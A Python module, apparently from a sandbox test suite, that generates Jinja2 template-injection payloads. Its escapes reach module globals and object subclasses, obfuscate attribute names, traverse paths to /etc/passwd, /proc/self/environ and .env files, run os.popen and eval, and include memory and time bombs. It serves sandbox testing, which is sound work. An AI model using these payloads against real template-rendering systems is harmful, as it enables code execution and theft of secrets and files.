"""Templates that try to get out of their sandbox, made from named parts: ways by syntaxes by aims, and hostile names.

Each is written for an environment without a sandbox, in which most of them succeed: see the test that counts it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence
    from pathlib import Path

VARIABLE: Final = "GENPOOL_CANARY"
"""The environment variable that an escape can read."""


@dataclass(frozen=True, slots=True)
class Payload:
    """One template."""

    name: str
    text: str
    bomb: bool = False
    """Whether it takes all memory or time where nothing stops it: never rendered without the sandbox."""


Step = str | int
Syntax = tuple[str, "Callable[[str, Sequence[Step]], str]"]

_WAYS: Final[dict[str, tuple[str, str, Sequence[Step], str]]] = {
    # name: what stands before, the value to start from, steps to a module's globals, what stands after
    "cycler": ("", "cycler", ("__init__", "__globals__"), ""),
    "cycler-method": ("", "cycler", ("next", "__globals__"), ""),
    "joiner": ("", "joiner", ("__init__", "__globals__"), ""),
    "joiner-call": ("", "joiner", ("__call__", "__globals__"), ""),
    "joiner-made": ("", "joiner()", ("__init__", "__func__", "__globals__"), ""),
    "namespace": ("", "namespace", ("__init__", "__globals__"), ""),
    "namespace-made": ("{% set ns = namespace(a=1) %}", "ns", ("__class__", "__init__", "__globals__"), ""),
    "lipsum": ("", "lipsum", ("__globals__",), ""),
    "self": ("", "self", ("__init__", "__globals__"), ""),
    "self-class": ("", "self", ("__class__", "__init__", "__globals__"), ""),
    "block": ("{% block b %}{% endblock %}", "self.b", ("__init__", "__globals__"), ""),
    "macro": ("{% macro m() %}{% endmacro %}", "m", ("__init__", "__globals__"), ""),
    "macro-function": ("{% macro m() %}{% endmacro %}", "m", ("_func", "__globals__"), ""),
    "macro-environment": ("{% macro m() %}{% endmacro %}", "m", ("_environment", "__init__", "__globals__"), ""),
    "caller": (
        "{% macro m() %}{{ caller() }}",
        "caller",
        ("__init__", "__globals__"),
        "{% endmacro %}{% call m() %}{% endcall %}",
    ),
    "loop": ("{% for one in [1] %}", "loop", ("__init__", "__globals__"), "{% endfor %}"),
    "text-property": ("", "parent", ("__class__", "text", "fget", "__globals__"), ""),
    "ancestor-class": ("", "draft", ("__class__", "text", "fget", "__globals__"), ""),
    "undefined": ("", "nothing_of_this_name", ("__init__", "__globals__"), ""),
    "generator-frame": ("", "([1]|map('string'))", ("gi_frame", "f_globals"), ""),
    "hidden-context": ("", "self", ("_TemplateReference__context", "__init__", "__globals__"), ""),
    "unicode-name": ("", "cycler", ("\uff3f_init\uff3f_", "__globals__"), ""),  # full-width low lines
}

_CLASSES: Final[dict[str, tuple[str, Sequence[Step]]]] = {
    # values and steps to the class that all others descend from
    "text": ("''", ("__class__", "__mro__", -1)),
    "bytes-of-text": ("'a'.encode()", ("__class__", "__base__")),
    "number": ("7", ("__class__", "__base__")),
    "list": ("[]", ("__class__", "__base__")),
    "tuple": ("()", ("__class__", "__bases__", 0)),
    "table": ("{}", ("__class__", "__mro__", 1)),
    "truth": ("true", ("__class__", "__mro__", 2)),
    "nothing": ("none", ("__class__", "__base__")),
    "range": ("range(3)", ("__class__", "__base__")),
    "dict-type": ("dict", ("__base__",)),
    "dict-made": ("dict(a=1)", ("__class__", "__base__")),
    "parent": ("parent", ("__class__", "__mro__", 2)),
    "axes": ("axes", ("__class__", "__base__")),
    "replicate": ("replicate", ("__class__", "__base__")),
    "method": ("parent.upper", ("__self__", "__class__", "__mro__", 2)),
    "cycler": ("cycler", ("__mro__", 1)),
    "lipsum": ("lipsum", ("__class__", "__base__")),
    "filtered": ("(parent|upper)", ("__class__", "__base__")),
}


# --- syntaxes: the same steps, written otherwise ------------------------------------------------------


def _dots(value: str, steps: Sequence[Step]) -> str:
    for step in steps:
        value = f"{value}[{step}]" if isinstance(step, int) else f"{value}.{step}"
    return value


def _by(write: Callable[[str], str]) -> Callable[[str, Sequence[Step]], str]:
    """Return a syntax of subscripts whose names are written in some way."""

    def written(value: str, steps: Sequence[Step]) -> str:
        for step in steps:
            value = f"{value}[{step if isinstance(step, int) else write(step)}]"
        return value

    return written


def _attr(write: Callable[[str], str]) -> Callable[[str, Sequence[Step]], str]:
    def written(value: str, steps: Sequence[Step]) -> str:
        for step in steps:
            value = f"({value})[{step}]" if isinstance(step, int) else f"({value}|attr({write(step)}))"
        return value

    return written


def _mapped(value: str, steps: Sequence[Step]) -> str:
    return f"([{value}]|map(attribute='{'.'.join(str(step) for step in steps)}')|first)"


def _mapped_one_by_one(value: str, steps: Sequence[Step]) -> str:
    for step in steps:
        value = f"({value})[{step}]" if isinstance(step, int) else f"([{value}]|map('attr', '{step}')|first)"
    return value


def _summed(value: str, steps: Sequence[Step]) -> str:
    return f"([{value}]|groupby('{'.'.join(str(step) for step in steps)}')|first|first)"


def _quoted(name: str) -> str:
    return f"'{name}'"


def _hexadecimal(name: str) -> str:
    return "'" + "".join(f"\\x{ord(one):02x}" if ord(one) < 256 else one for one in name) + "'"


def _long_escapes(name: str) -> str:
    return "'" + "".join(f"\\u{ord(one):04x}" for one in name) + "'"


def _halves(name: str) -> str:
    return f"('{name[:3]}' ~ '{name[3:]}')"


def _joined(name: str) -> str:
    return f"(['{name[:2]}', '{name[2:]}']|join)"


def _reversed(name: str) -> str:
    return f"('{name[::-1]}'|reverse)"


def _by_percent(name: str) -> str:
    return "('" + name.replace("_", "%c") + "'|format(" + ", ".join("95" for _ in range(name.count("_"))) + "))"


def _by_keys(name: str) -> str:
    return f"(dict({name}=1)|list|first)"


_SYNTAXES: Final[tuple[Syntax, ...]] = (
    ("dots", _dots),
    ("subscripts", _by(_quoted)),
    ("hexadecimal", _by(_hexadecimal)),
    ("escapes", _by(_long_escapes)),
    ("halves", _by(_halves)),
    ("joined", _by(_joined)),
    ("reversed", _by(_reversed)),
    ("percent", _by(_by_percent)),
    ("keys", _by(_by_keys)),
    ("attr", _attr(_quoted)),
    ("attr-joined", _attr(_joined)),
    ("attr-hexadecimal", _attr(_hexadecimal)),
    ("map-attribute", _mapped),
    ("map-attr", _mapped_one_by_one),
    ("groupby", _summed),
)

# --- aims: what to do with a module's globals -----------------------------------------------------------


def _aims(folder: Path) -> Sequence[tuple[str, str]]:
    builtins, secret = "['__builtins__']", folder / "secret.txt"
    return (
        ("environment", f"{builtins}['__import__']('os').environ['{VARIABLE}']"),
        ("read", f"{builtins}['open']('{secret}').read()"),
        ("write", f"{builtins}['open']('{folder / 'written.txt'}', 'w').write('x')"),
        ("start", f"{builtins}['__import__']('os').popen('cat {secret}').read()"),
        ("evaluate", f"{builtins}['eval']('__import__(\"os\").environ[\"{VARIABLE}\"]')"),
        ("show", ""),
    )


def attribute_payloads(folder: Path) -> Iterator[Payload]:
    """Yield ways to a module's globals in every syntax, the aims by turns."""
    aims = _aims(folder)
    turn = 0
    for way, (before, value, steps, after) in _WAYS.items():
        for syntax, write in _SYNTAXES:
            aim, then = aims[turn % len(aims)]
            turn += 1
            text = f"{before}{{{{ {write(value, steps)}{then} }}}}{after}"
            yield Payload(f"{way} {syntax} {aim}", text)


def class_payloads() -> Iterator[Payload]:
    """Yield ways to the root of all classes and to those below it."""
    for place, (name, (value, steps)) in enumerate(_CLASSES.items()):
        for offset in range(5):
            syntax, write = _SYNTAXES[(place + 3 * offset) % len(_SYNTAXES)]
            inner = write(value, (*steps, "__subclasses__"))
            yield Payload(f"classes of {name} {syntax}", f"{{{{ {inner}() }}}}")
            if offset == 0:
                yield Payload(f"class of {name} {syntax}", f"{{{{ {write(value, steps)} }}}}")


def format_payloads() -> Iterator[Payload]:
    """Yield format strings, which have attribute access of their own, called in every way."""
    fields = {
        "cycler": ("cycler", f"__init__.__globals__[os].environ[{VARIABLE}]"),
        "lipsum": ("lipsum", f"__globals__[os].environ[{VARIABLE}]"),
        "class": ("parent", "__class__.__mro__"),
        "self": ("self", "__init__.__globals__"),
    }
    for name, (value, path) in fields.items():
        one, named = f"'{{0.{path}}}'", f"'{{a.{path}}}'"
        ways = {
            "method": f"{one}.format({value})",
            "subscript": f"{one}['format']({value})",
            "attr": f"({one}|attr('format'))({value})",
            "map": f"([{one}]|map(attribute='format')|first)({value})",
            "map-attr": f"([{one}]|map('attr', 'format')|first)({value})",
            "keyword": f"{named}.format(a={value})",
            "format-map": f"{named}.format_map({{'a': {value}}})",
            "format-map-attr": f"({named}|attr('format_map'))({{'a': {value}}})",
            "markup": f"({one}|safe).format({value})",
            "escaped": f"({one}|escape).format({value})",
            "joined": f"(['{{0.', '{path}}}']|join).format({value})",
            "nested": f"'{{0:{{1.{path}}}}}'.format('', {value})",
        }
        for way, text in ways.items():
            yield Payload(f"format {name} {way}", f"{{{{ {text} }}}}")
        yield Payload(f"format {name} set", f"{{% set f = {one}.format %}}{{{{ f({value}) }}}}")
        yield Payload(
            f"format {name} macro", f"{{% macro m(f) %}}{{{{ f({value}) }}}}{{% endmacro %}}{{{{ m({one}.format) }}}}"
        )
        yield Payload(
            f"format {name} filter", f"{{% filter replace('#', '') %}}{{{{ {one}.format({value}) }}}}{{% endfilter %}}"
        )


def loader_payloads(folder: Path) -> Iterator[Payload]:
    """Yield includes, imports and parents that are not templates of the pool; the secret is in `folder`."""
    for name in hostile_names(folder):
        yield Payload(f"include {name!r}", f"{{% include '{name}' %}}")
    for name in hostile_names(folder)[::3]:
        yield Payload(f"extends {name!r}", f"{{% extends '{name}' %}}")
        yield Payload(f"import {name!r}", f"{{% import '{name}' as m %}}{{{{ m.secret }}}}")
        yield Payload(f"from {name!r}", f"{{% from '{name}' import secret %}}{{{{ secret }}}}")
        yield Payload(f"list {name!r}", f"{{% include ['nothing.j2', '{name}'] ignore missing %}}")
        yield Payload(f"expression {name!r}", f"{{% include '{name[:2]}' ~ '{name[2:]}' %}}")
        yield Payload(f"variable {name!r}", f"{{% set n = '{name}' %}}{{% include n %}}")
        yield Payload(f"condition {name!r}", f"{{% include ('{name}' if true else 'x.j2') %}}")
    yield Payload("include what a model wrote", "{% include parent %}")
    yield Payload("extend what a model wrote", "{% extends parent.text %}")
    yield Payload("import a template object", "{% import self as m %}{{ m }}")


def hostile_names(folder: Path) -> list[str]:
    """Return names that lead out of templates/, from a pool in `folder`/pool."""
    return [
        "../secret.txt",
        "../../secret.txt",
        "../pool.yaml",
        "../.env",
        "../rows.csv",
        "essay/../../../secret.txt",
        "./../../secret.txt",
        "essay//../../.env",
        "..//pool.yaml",
        str(folder / "secret.txt"),
        f"/{folder / 'secret.txt'}",
        str(folder / "pool/.env"),
        "linked.txt",  # a link to the secret
        "essay/linked.j2",
        "outside/secret.txt",  # a folder that is a link
        "essay/outside/secret.txt",
        "outside/pool/.env",
        "outside/../../secret.txt",
        "/proc/self/environ",
        "../../../../../../../../../../proc/self/environ",
        "/etc/passwd",
        "file:///etc/passwd",
    ]


def other_payloads() -> Iterator[Payload]:
    """Yield what fits none of the tables: changing values, statements that are not there, sizes."""
    texts = {
        "change a table": "{{ axes.update({'template_id': 'other'}) }}{{ axes }}",
        "change by attr": "{{ (axes|attr('update'))({'x': 1}) }}",
        "take from a table": "{{ axes.pop('template_id') }}",
        "clear a table": "{% set x = axes.clear() %}",
        "change a global": "{% set x = dict.update %}{{ x(axes, {'a': 1}) }}",
        "extend a list": "{% set l = [] %}{{ l.append(1) }}{{ l }}",
        "set by namespace": "{% set ns = namespace() %}{% set ns.__class__ = 1 %}{{ ns.__class__.__mro__ }}",
        "a statement: do": "{% do cycler.__init__.__globals__ %}",
        "a statement: debug": "{% debug %}",
        "a statement: python": "{% python %}import os{% endpython %}",
        "an expression with await": "{{ await cycler }}",
        "an async generator": "{{ (parent|map('upper')).ag_frame.f_globals }}",
        "a coroutine": "{{ cycler.next.cr_frame }}",
        "a traceback": "{{ parent.__traceback__.tb_frame.f_globals }}",
        "the module of a template": "{{ self.__module__ }}{{ self.__class__.__module__ }}",
        "the closure of a method": "{{ parent.format.__wrapped__ }}",
        "the wrapped of a format": "{{ ''.format.__wrapped__.__self__.__class__ }}",
        "the globals of a wrapper": "{{ '{}'.format.__globals__['sys'].modules['os'].environ }}",
        "the closure of a wrapper": "{{ '{}'.format.__closure__[0].cell_contents }}",
        "a template in a text": "{% set t = '{{ cycler.__init__.__globals__ }}' %}{{ self.__class__.__init__(t) }}",
        "a macro to all": "{% macro m() %}{% endmacro %}{{ m._environment.from_string('4{{ 2 }}x').render() }}",
        "the loader of a macro": "{% macro m() %}{% endmacro %}{{ m._environment.loader.load_func('../pool.yaml') }}",
        "the environment of the context": "{{ self._TemplateReference__context.environment.loader }}",
        "the names of the context": "{{ self._TemplateReference__context.parent }}",
        "a filter's function": "{{ self._TemplateReference__context.environment.filters }}",
        "xmlattr": "{{ {'a': cycler.__init__.__globals__}|xmlattr }}",
        "pprint": "{{ cycler.__init__.__globals__|pprint }}",
        "tojson": "{{ cycler.__init__.__globals__.keys()|list|tojson }}",
        "sort": "{{ [cycler, joiner]|sort(attribute='__init__.__globals__.os.environ.GENPOOL_CANARY')|list }}",
        "unique": "{{ [parent]|unique(attribute='__class__.__mro__')|list|map(attribute='__class__')|list }}",
        "selectattr": "{{ [parent]|selectattr('__class__')|map(attribute='__class__')|list }}",
        "rejectattr": "{{ [parent]|rejectattr('__nothing__')|map(attribute='__class__.__mro__')|list }}",
        "sum": "{{ [cycler]|sum(attribute='__name__', start='')|attr('__class__') }}",
        "max": "{{ [parent]|max(attribute='__class__.__name__')|attr('__class__') }}",
        "what a model wrote, as an attribute": "{{ ''[parent] }}",
        "what a model wrote, by attr": "{{ ''|attr(parent.text) }}",
        "what a model wrote, by map": "{{ ['']|map(attribute=parent)|list }}",
        "what a model wrote, in a format": "{{ ('{0.' ~ parent ~ '}').format('') }}",
        "an attribute in another width": "{{ ''.\uff3f\uff3fclass\uff3f\uff3f }}",
        "mathematical letters": "{{ ''.__\U0001d4ec\U0001d4f5\U0001d4ea\U0001d4fc\U0001d4fc__ }}",
    }
    for name, text in texts.items():
        yield Payload(name, text)
    bombs = {
        "a range": "{{ range(10**9)|list|length }}",
        "a range with a step": "{{ range(0, 10**12, 1)|sum }}",
        "a loop over a range": "{% for i in range(10**8) %}x{% endfor %}",
        "a range by attr": "{{ (dict(r=range).r)(10**9)|list }}",
    }
    for name, text in bombs.items():
        yield Payload(name, text, bomb=True)


def payloads(folder: Path) -> list[Payload]:
    """Return every payload for a pool in `folder`/pool, with a secret beside it."""
    return [
        *attribute_payloads(folder),
        *class_payloads(),
        *format_payloads(),
        *loader_payloads(folder),
        *other_payloads(),
    ]
